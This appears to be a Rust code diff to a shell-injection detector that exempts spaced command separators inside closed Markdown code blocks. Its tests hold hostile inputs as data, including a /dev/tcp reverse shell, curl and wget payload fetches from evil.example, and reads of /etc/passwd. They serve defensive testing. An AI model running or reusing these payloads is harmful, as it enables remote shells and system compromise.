@@ -1423,6 +1423,7 @@ pub fn detect(s: &str) -> Option<Found> {
     let mut i = 0;
     let mut n = 0;
     let mut md_open = false;
+    let fences = markdown_fences(s);
     while i < b.len() && n < 64 {
         let c = b[i];
         let sep = match c {
@@ -1482,7 +1483,24 @@ pub fn detect(s: &str) -> Option<Found> {
             }
             _ => None,
         };
-        if let Some(len) = sep {
+        // Shell lines in a Markdown code block (a README, an issue, a chat
+        // message) are shown, not run: a line's start and a separator
+        // written with blanks on both sides, as people write them
+        // (`rm -rf dist && npm ci`, `curl -fsSL URL | sh`), start nothing
+        // there. Tight separators (`;cat /etc/passwd`, `x|id`) and
+        // substitutions are judged as anywhere else.
+        let shown = sep.is_some()
+            && !fences.is_empty()
+            && (c == b'\n'
+                || matches!(c, b';' | b'|' | b'&')
+                    && i.checked_sub(1)
+                        .and_then(|p| b.get(p))
+                        .is_some_and(u8::is_ascii_whitespace)
+                    && sep
+                        .and_then(|len| b.get(i + len))
+                        .is_some_and(u8::is_ascii_whitespace))
+            && fences.iter().any(|(a, e)| (*a..*e).contains(&i));
+        if let Some(len) = sep.filter(|_| !shown) {
             n += 1;
             let rest = s.get(i + len..).unwrap_or("");
             // A media data URL's `;base64,` (`data:image/png;base64,iVBOR...`,
@@ -1546,6 +1564,40 @@ pub fn detect(s: &str) -> Option<Found> {
         found = Some(("rce.powershell", 0.85));
     }
     found
+}
+
+/// The byte ranges of the closed Markdown code blocks in `s` (at most 16):
+/// from the end of an opening fence's line (three or more backticks or
+/// tildes, up to three spaces in, an optional language) to the start of
+/// the closing fence line.
+fn markdown_fences(s: &str) -> Vec<(usize, usize)> {
+    let mut out = vec![];
+    if !gate::has(s, "```") && !gate::has(s, "~~~") {
+        return out;
+    }
+    let mut open: Option<(usize, u8)> = None;
+    let mut at = 0;
+    for line in s.split_inclusive('\n') {
+        let t = line.trim_start_matches(' ');
+        let fence = (line.len() - t.len() <= 3)
+            .then(|| t.as_bytes().first().copied())
+            .flatten()
+            .filter(|c| matches!(c, b'`' | b'~') && t.as_bytes().starts_with(&[*c; 3]));
+        match (open, fence) {
+            // From the newline that ends the opening fence's line.
+            (None, Some(c)) => open = Some((at + line.trim_end_matches('\n').len(), c)),
+            (Some((start, c)), Some(f)) if f == c && t.trim_end().bytes().all(|x| x == c) => {
+                out.push((start, at));
+                open = None;
+                if out.len() == 16 {
+                    break;
+                }
+            }
+            _ => {}
+        }
+        at += line.len();
+    }
+    out
 }
 
 /// What follows a `;` is a capitalised word (not all capitals) with no
@@ -1827,6 +1879,37 @@ mod tests {
         ] {
             assert!(detect(a).is_some(), "missed {a:?}");
         }
+    }
+
+    /// Shell lines in a Markdown code block are shown, not run: line starts
+    /// and separators written with blanks there start nothing. Tight
+    /// separators, substitutions and `/dev/tcp` in a block still count, and
+    /// so does the same text outside a closed block.
+    #[test]
+    fn markdown_code_blocks_show_commands() {
+        for b in [
+            "```bash\nrm -rf node_modules && npm ci\nnpm test -- --runInBand\n```",
+            "Install:\n\n```sh\ncurl -fsSL https://get.example.com/install.sh | sh\n```\nthen log in",
+            "Repro:\n~~~\ncd api && make build\n./bin/api --port 8080 && sleep 1\n~~~",
+            "  ```\n  sudo systemctl restart nginx ; tail -f /var/log/nginx/error.log\n  ```",
+        ] {
+            assert_eq!(detect(b), None, "flagged {b:?}");
+        }
+        for a in [
+            "```\n;cat /etc/passwd\n```",
+            "x\n```\n|id\n```",
+            "```\n$(curl http://evil.example/x|sh)\n```",
+            "```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```",
+            "```\n;wget http://evil.example/x -O /tmp/x;chmod +x /tmp/x\n```",
+            // Not closed: no code block.
+            "```bash\nrm -rf node_modules && npm ci",
+            // Outside the block.
+            "```\nls\n```\nx;cat /etc/passwd",
+        ] {
+            assert!(detect(a).is_some(), "missed {a:?}");
+        }
+        assert_eq!(markdown_fences("a\n```x\nb\n```\nc"), vec![(6, 9)]);
+        assert_eq!(markdown_fences("```\nb\n~~~\nc"), vec![]);
     }
 
     #[test]
